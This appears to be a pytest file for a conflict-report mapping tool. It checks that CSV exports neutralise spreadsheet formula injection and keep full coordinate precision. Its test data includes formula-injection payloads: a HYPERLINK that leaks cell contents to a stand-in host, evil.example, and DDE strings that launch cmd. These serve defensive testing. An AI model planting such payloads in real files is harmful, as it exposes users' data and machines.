"""Every CSV the tool writes is safe to open in a spreadsheet, and keeps its numbers exact.

Report text is hostile: a `source` of `=HYPERLINK(...)` must reach a spreadsheet
as text, not as a formula (OWASP CSV injection). GeoJSON keeps the exact text.
"""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from mapper.exports import FORMULA_START, csv_cell, csv_text, frame_csv_text

from .conftest import ROOT, write_report

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PAYLOADS = {
    "source": HYPERLINK,
    "id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "url": "+http://evil.example/x",
    "title": "-2+3+cmd|' /C calc'!A0",
}


def _cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _assert_no_formula(rows: list[dict]) -> None:
    """No cell a spreadsheet would evaluate: text may not start with a formula character."""
    assert rows
    for row in rows:
        for col, cell in row.items():
            if cell.startswith(FORMULA_START):
                float(cell)  # only a number (a negative coordinate) may start with '-'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_csv_cell_quotes_each_formula_start(prefix):
    assert csv_cell(prefix + "1+1") == "'" + prefix + "1+1"


def test_csv_cell_leaves_plain_text_and_numbers():
    assert csv_cell("al-Mayadin") == "al-Mayadin"
    assert csv_cell("") == ""
    assert csv_cell(-40.123456) == -40.123456
    assert csv_cell(-3) == -3
    assert csv_cell(None) is None


def test_csv_text_neutralises_text_but_not_negative_numbers():
    rows = [{"source": HYPERLINK, "lat": -33.456789, "lon": -70.5, "strikes": -1, "note": "- a bullet",
             "sources": [{"source": "=cmd", "published": "2021-01-01", "url": ""}, {"source": "SOHR"}]}]
    text = csv_text(rows, ["source", "lat", "lon", "strikes", "note", "sources"])
    (row,) = _cells(text)
    assert row == {"source": "'" + HYPERLINK, "lat": "-33.456789", "lon": "-70.5", "strikes": "-1",
                   "note": "'- a bullet", "sources": "'=cmd 2021-01-01 || SOHR"}


def test_frame_csv_text_neutralises_text_columns_only():
    df = pd.DataFrame({"place": ["=EVIL()", "Hajin"], "district": ["@x", "al-Bukamal"],
                       "fatalities_min": [-2.5, 3.0], "incidents": [1, -4]})
    rows = _cells(frame_csv_text(df))
    assert rows == [{"place": "'=EVIL()", "district": "'@x", "fatalities_min": "-2.5", "incidents": "1"},
                    {"place": "Hajin", "district": "al-Bukamal", "fatalities_min": "3.0", "incidents": "-4"}]


@pytest.fixture
def hostile_run(invoke, tmp_path):
    """A run whose report carries formula payloads in its front matter."""
    src = tmp_path / "in"
    src.mkdir()
    write_report(src / "a.txt", "Drones struck al-Mayadin on Wednesday, killing two people.",
                 published="2021-01-14", **{k: json.dumps(v) for k, v in PAYLOADS.items()})
    out = tmp_path / "out"
    code, _, err = invoke("build", str(src), "--out", str(out))
    assert code == 0, err
    return src, out


def test_events_and_incidents_csv_are_neutralised(hostile_run):
    _, out = hostile_run
    events = _cells((out / "events.csv").read_text(encoding="utf-8"))
    assert [(r["source"], r["report_id"], r["url"]) for r in events] == [
        ("'" + PAYLOADS["source"], "'" + PAYLOADS["id"], "'" + PAYLOADS["url"])]
    _assert_no_formula(events)
    incidents = _cells((out / "incidents.csv").read_text(encoding="utf-8"))
    assert incidents[0]["sources"].startswith("'" + HYPERLINK)
    assert incidents[0]["report_ids"] == "'" + PAYLOADS["id"]
    _assert_no_formula(incidents)


def test_geojson_keeps_the_exact_text(hostile_run):
    _, out = hostile_run
    (f,) = json.loads((out / "events.geojson").read_text(encoding="utf-8"))["features"]
    assert (f["properties"]["source"], f["properties"]["report_id"]) == (PAYLOADS["source"], PAYLOADS["id"])
    (inc,) = json.loads((out / "incidents.geojson").read_text(encoding="utf-8"))["features"]
    assert inc["properties"]["sources"][0]["source"] == HYPERLINK


def test_extract_and_export_csv_are_neutralised(hostile_run, invoke, tmp_path):
    src, out = hostile_run
    code, text, _ = invoke("extract", str(src), "--format", "csv")
    assert code == 0
    rows = _cells(text)
    assert rows[0]["source"] == "'" + HYPERLINK
    _assert_no_formula(rows)
    for extra in ((), ("--incidents",)):
        code, text, err = invoke("export", str(out / "events.geojson"), "--format", "csv", *extra)
        assert code == 0, err
        rows = _cells(text)
        assert HYPERLINK in (rows[0].get("source") or rows[0]["sources"])
        _assert_no_formula(rows)


def test_summary_csv_is_neutralised(invoke, tmp_path):
    """A place's canonical name (from an extra gazetteer) reaches by_place.csv neutralised."""
    extra = tmp_path / "extra.csv"
    extra.write_text("id,name,alt_names,type,lat,lon\n"
                     "evil-farm,@Abu Shams farm,Abu Shams farm,site,35.1,40.4\n", encoding="utf-8")
    src = tmp_path / "in"
    src.mkdir()
    write_report(src / "a.txt", "Drones struck the Abu Shams farm on Wednesday.", published="2021-01-14")
    code, _, err = invoke("summary", str(src), "--gazetteer", str(extra), "--csv", str(tmp_path / "tables"))
    assert code == 0, err
    by_place = _cells((tmp_path / "tables" / "by_place.csv").read_text(encoding="utf-8"))
    assert [r["place"] for r in by_place] == ["'@Abu Shams farm"]
    for name in ("by_place.csv", "by_day.csv", "by_district.csv"):
        _assert_no_formula(_cells((tmp_path / "tables" / name).read_text(encoding="utf-8")))


def test_csv_coordinates_keep_full_precision(invoke, tmp_path):
    """CSV coordinates equal the GeoJSON's, digit for digit (a spreadsheet user must not lose metres)."""
    out = tmp_path / "out"
    assert invoke("build", str(ROOT / "seeds"), "--out", str(out))[0] == 0
    for stem in ("events", "incidents"):
        features = json.loads((out / f"{stem}.geojson").read_text(encoding="utf-8"))["features"]
        rows = _cells((out / f"{stem}.csv").read_text(encoding="utf-8"))
        assert len(rows) == len(features) > 0
        decimals = 0
        for row, f in zip(rows, features):
            p = f["properties"]
            for col in ("lat", "lon", "anchor_lat", "anchor_lon"):
                assert float(row[col]) == p[col], (stem, col, row[col], p[col])
                decimals = max(decimals, len(row[col].partition(".")[2]))
        assert decimals >= 4  # the seed's points carry at least 4 decimals, so rounding to 2 shows
    code, text, _ = invoke("export", str(out / "events.geojson"), "--format", "csv")
    assert code == 0
    exported = _cells(text)
    built = _cells((out / "events.csv").read_text(encoding="utf-8"))
    assert [(r["lat"], r["lon"]) for r in exported] == [(r["lat"], r["lon"]) for r in built]
